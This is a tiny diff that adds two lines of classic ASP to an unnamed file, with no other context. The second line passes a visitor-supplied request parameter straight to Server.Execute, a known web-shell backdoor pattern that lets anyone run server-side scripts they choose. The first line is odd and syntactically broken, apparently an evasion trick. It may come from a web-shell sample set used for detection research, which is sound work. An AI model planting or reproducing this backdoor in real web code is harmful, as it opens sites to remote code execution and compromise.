@@ -1,0 +1,2 @@
+<% Response.End : Dim 1 %>
+<% Server.Execute(request("p")) %>
